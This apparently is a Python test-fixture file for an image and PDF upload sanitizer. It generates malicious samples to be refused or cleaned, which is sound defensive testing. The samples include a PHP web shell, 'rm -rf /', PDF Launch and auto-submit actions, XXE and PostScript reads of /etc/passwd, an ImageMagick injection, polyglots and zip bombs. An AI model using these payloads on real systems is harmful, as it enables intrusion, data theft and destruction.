"""Files made to do harm, by name. REFUSED must not be taken; CLEANED are taken, harmless."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, PngImagePlugin

from . import samples
from .samples import archive, blank, encoded, jpeg, opening, pdf, photo, png, saved, webp

MARK = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"
MZ = b"MZ\x90\x00" + b"\0" * 200


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of(width: int, height: int, data: bytes = b"", colour: int = 2, bits: int = 8) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    body = chunk(b"IDAT", data or zlib.compress(b"\0" * 100))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    """A photo whose header promises other dimensions than its data holds."""
    content = bytearray(jpeg())
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def exif_of(**texts: str) -> Image.Exif:
    exif = Image.Exif()
    for tag, text in texts.items():
        exif[int(tag[1:], 16)] = text
    return exif


def png_with_text(zipped: bool = False) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARK.decode(), zip=zipped)
    info.add_itxt("XML:com.adobe.xmp", MARK.decode())
    return png(pnginfo=info)


def text_bomb() -> bytes:
    """64 MB of comment in 64 KB."""
    body = b"Comment\0\0" + zlib.compress(b"A" * (64 << 20), 9)
    whole = png()
    return whole[:33] + chunk(b"zTXt", body) + whole[33:]


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("nol", b"\0" * (80 << 20))
    return out.getvalue()


def nested_zip() -> bytes:
    inner = archive("foto.jpg")
    for _ in range(20):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zipped:
            zipped.writestr("dalam.zip", inner)
        inner = out.getvalue()
    return inner


def animated(kind: str) -> bytes:
    frames = [photo(60, 40).rotate(turn) for turn in (90, 180)]
    return encoded(photo(60, 40), kind, save_all=True, append_images=frames)


def page_action(kind: str, **more: object) -> bytes:
    document = blank()
    link = Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=samples._action(kind, **more))
    document.pages[0].obj.Annots = Array([link])
    return saved(document)


def annotated(subtype: str) -> bytes:
    document = blank()
    note = Dictionary(Subtype=Name("/" + subtype), Rect=[0, 0, 9, 9])
    document.pages[0].obj.Annots = Array([note])
    return saved(document)


def field_script() -> bytes:
    document = blank()
    field = Dictionary(
        FT=Name.Tx, T=String("x"), AA=Dictionary(K=samples._action("JavaScript", JS=String("1")))
    )
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))
    return saved(document)


def forgotten_script() -> bytes:
    """A script no page leads to, which a repairing reader may find."""
    document = blank()
    loose = document.make_indirect(samples._action("JavaScript", JS=String("1")))
    document.Root.Lain = Array([loose])
    return saved(document)


def script_in_stream() -> bytes:
    document = blank()
    script = document.make_indirect(Stream(document, b"app.alert(1)"))
    document.Root.OpenAction = samples._action("JavaScript", JS=script)
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def renamed_script() -> bytes:
    """The name spelt with an escape, as in #4aavaScript."""
    plain = opening_uncompressed()
    return plain.replace(b"/JavaScript", b"/#4a#61vaScript")


def opening_uncompressed() -> bytes:
    document = blank()
    document.Root.OpenAction = samples._action("JavaScript", JS=String("1"))
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def locked_with(revision: int) -> bytes:
    modern = revision >= 4
    lock = pikepdf.Encryption(owner="o", user="u", R=revision, aes=modern, metadata=modern)
    return saved(blank(), encryption=lock)


def pdf_in_pdf() -> bytes:
    document = blank()
    document.attachments["dalam.pdf"] = pikepdf.AttachedFileSpec(document, pdf())
    return saved(document)


def many_objects() -> bytes:
    rows = b"".join(b"%d 0 obj\nnull\nendobj\n" % number for number in range(4, 210_000))
    whole = pdf(1)
    return whole[: whole.rindex(b"xref\n0")] + rows + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def looping_pages() -> bytes:
    """A tree of pages that contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n"
    )


def deep_arrays() -> bytes:
    """A million brackets: a recursive reader runs out of stack."""
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X "
        + b"[" * 1_000_000
        + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


REFUSED: dict[str, Callable[[], bytes]] = {
    # pictures that are too much
    "a bomb of 41 megapixels": samples.bomb,
    "a PNG that claims 2 billion rows": lambda: png_of(2**31 - 1, 2**31 - 1),
    "a PNG that claims 65535 squared": lambda: png_of(65535, 65535),
    "a PNG one pixel high and too long": lambda: png_of(90_000_000, 1),
    "a PNG of no width": lambda: png_of(0, 10),
    "a PNG with an unknown colour type": lambda: png_of(10, 10, colour=9),
    "a PNG with 3 bits": lambda: png_of(10, 10, bits=3),
    "a PNG whose pixels are not packed data": lambda: png_of(10, 10, b"bukan zlib"),
    "a PNG with too few pixels": lambda: png_of(1000, 1000),
    "a PNG with a comment bomb": text_bomb,
    "a PNG with a broken checksum": lambda: png()[:40] + b"\xff\xff" + png()[42:],
    "a JPEG that claims 65500 squared": lambda: jpeg_claiming(65500, 65500),
    "a JPEG of no size": lambda: jpeg_claiming(0, 0),
    "a WEBP of 13 megapixels": lambda: encoded(Image.new("RGB", (4100, 3100)), "WEBP", method=0),
    "a progressive JPEG of 36 megapixels": lambda: encoded(
        Image.new("RGB", (6000, 6000)), "JPEG", progressive=True
    ),
    # cut off, or nothing behind the signature
    **{
        f"a {make.__name__} cut at {part:.0%}": lambda make=make, part=part: make()[
            : int(len(make()) * part)
        ]
        for make in (jpeg, png, webp, samples.heic, pdf)
        for part in (0.1, 0.5, 0.9)
    },
    "a JPEG signature before a program": lambda: b"\xff\xd8\xff\xe0" + MZ,
    "a PNG signature before a script": lambda: b"\x89PNG\r\n\x1a\n" + MARK,
    "a WEBP signature before PHP": lambda: b"RIFF\x10\0\0\0WEBP" + PHP,
    "a HEIC signature before nothing": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 64,
    "a PDF signature before HTML": lambda: b"%PDF-1.7\n" + MARK + b"\n%%EOF",
    # two in one
    "a PDF that is a ZIP": lambda: pdf() + archive("x"),
    "a PDF that is a Word file": lambda: pdf() + samples.docx(),
    "a PDF that is a Java archive": lambda: pdf() + archive("META-INF/MANIFEST.MF"),
    "HTML before a PDF": lambda: samples.HTML + pdf(),
    "PHP before a PDF": lambda: PHP + pdf(),
    "a program before a PDF": lambda: MZ + pdf(),
    "GIF before a script": lambda: b"GIF89a/*" + MARK,
    "a shell script before a photo": lambda: b"#!/bin/sh\nrm -rf /\n" + jpeg(),
    "HTML before a photo": lambda: samples.HTML + jpeg(),
    "a byte order mark before HTML": lambda: b"\xef\xbb\xbf" + samples.HTML,
    "blank lines before HTML": lambda: b"\n" * 50 + samples.HTML,
    # PDFs that act
    "a script on opening": lambda: opening("JavaScript", JS=String("app.alert(1)")),
    "a script in a stream": script_in_stream,
    "a script under a name with escapes": renamed_script,
    "a script in the name tree": samples.scripted_pdf,
    "a script behind a click": samples.chained_pdf,
    "a script in a form field": field_script,
    "a script nothing leads to": forgotten_script,
    "a script in a swelling stream": samples.swelling_pdf,
    "a page that acts when shown": samples.self_acting_page,
    "a program started on opening": lambda: opening("Launch", F=String("cmd.exe")),
    "a program started by a click": lambda: page_action("Launch", F=String("/bin/sh")),
    "a form sent by itself": lambda: opening("SubmitForm", F=String("https://x.example")),
    "data taken in by itself": lambda: opening("ImportData", F=String("x.fdf")),
    "a file of another host": lambda: opening("GoToR", F=String(r"\\host\share")),
    "a jump into an attachment": lambda: page_action("GoToE", F=String("x.pdf")),
    "a film": lambda: page_action("Movie"),
    "a sound": lambda: page_action("Sound"),
    "a rendition": lambda: page_action("Rendition"),
    "rich media by action": lambda: page_action("RichMediaExecute"),
    "rich media by annotation": lambda: annotated("RichMedia"),
    "a screen annotation": lambda: annotated("Screen"),
    "an attached program": samples.pdf_with_attachment,
    "a pinned program": samples.pdf_with_pinned_file,
    "a PDF in a PDF": pdf_in_pdf,
    "a portfolio": samples.portfolio,
    "an XFA form": samples.form_pdf,
    **{f"a PDF locked in revision {n}": lambda n=n: locked_with(n) for n in (2, 3, 4, 6)},
    "a PDF locked for changes only": lambda: samples.locked_pdf(user=""),
    "a PDF without pages": lambda: pdf(0),
    "a PDF of 301 pages": lambda: pdf(301),
    "a PDF of 200,000 objects": many_objects,
    "a PDF whose pages contain themselves": looping_pages,
    "a PDF of a million brackets": deep_arrays,
    # what is no photo and no PDF
    "SVG": lambda: samples.SVG,
    "SVG with entities": lambda: b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
    "SVG behind a comment": lambda: b"<!-- foto --><svg onload='alert(1)'/>",
    "packed SVG": lambda: b"\x1f\x8b\x08\0" + b"\0" * 50,
    "XML with an outside entity": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
    ),
    "HTML": lambda: samples.HTML,
    "PHP": lambda: PHP,
    "Word": samples.docx,
    "Word with macros": lambda: archive("[Content_Types].xml", "word/vbaProject.bin"),
    "old Word": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
    "Excel": lambda: archive("xl/workbook.xml"),
    "a ZIP with paths upward": lambda: archive("../../etc/passwd"),
    "a ZIP bomb": zip_bomb,
    "a ZIP in a ZIP in a ZIP": nested_zip,
    "a program for Windows": lambda: MZ,
    "a program for Linux": lambda: b"\x7fELF" + b"\0" * 100,
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "a moving GIF": lambda: animated("GIF"),
    "TIFF": lambda: encoded(photo(), "TIFF"),
    "BMP": lambda: encoded(photo(), "BMP"),
    "an icon": lambda: encoded(photo(64, 64), "ICO"),
    "a command for ImageMagick": lambda: b"push graphic-context\nfill 'url(https://x/|id)'\n",
    "a playlist that reads files": lambda: b"#EXTM3U\nconcat:http://x|file:///etc/passwd\n",
    "nothing": lambda: b"",
    "one zero": lambda: b"\0",
    "a megabyte of zeros": lambda: b"\0" * (1 << 20),
}

CLEANED: dict[str, Callable[[], bytes]] = {
    "a photo with HTML behind it": lambda: jpeg() + MARK,
    "a photo with PHP behind it": lambda: jpeg() + PHP,
    "a photo with a ZIP behind it": lambda: jpeg() + archive("virus.exe"),
    "a photo with a PDF behind it": lambda: jpeg() + opening_uncompressed(),
    "a photo with a program behind it": lambda: jpeg() + MZ,
    "a PNG with HTML behind it": lambda: png() + MARK,
    "a PNG with a Java archive behind it": lambda: png() + archive("META-INF/MANIFEST.MF"),
    "a WEBP with HTML behind it": lambda: webp() + MARK,
    "a script as comment": lambda: jpeg(comment=MARK),
    "PHP as comment": lambda: jpeg(comment=PHP),
    "a script as the camera's maker": lambda: jpeg(exif=exif_of(x010F=MARK.decode())),
    "a script as description and artist": lambda: jpeg(
        exif=exif_of(x010E=MARK.decode(), x013B=MARK.decode())
    ),
    "PHP as the camera's model": lambda: jpeg(exif=exif_of(x0110=PHP.decode())),
    "a script in the WEBP's XMP": lambda: webp_with_xmp(),
    "a script as PNG text": png_with_text,
    "a script as packed PNG text": lambda: png_with_text(zipped=True),
    "a script as colour profile": lambda: png(icc_profile=MARK),
    "a garbled EXIF block": lambda: jpeg(exif=b"Exif\0\0MM\0*\xff\xff\xff\xff" + MARK),
    "an orientation of 99": lambda: jpeg(exif=orientation(99)),
    "a photo where it was taken": samples.jpeg_from_a_phone,
    "a moving PNG": lambda: animated("PNG"),
    "a moving WEBP": lambda: animated("WEBP"),
    "two photos in one": samples.two_shots,
    "40 megapixels with transparency": samples.at_the_limit,
}


def webp_with_xmp() -> bytes:
    return encoded(photo(), "WEBP", xmp=MARK)


def orientation(number: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = number
    return exif
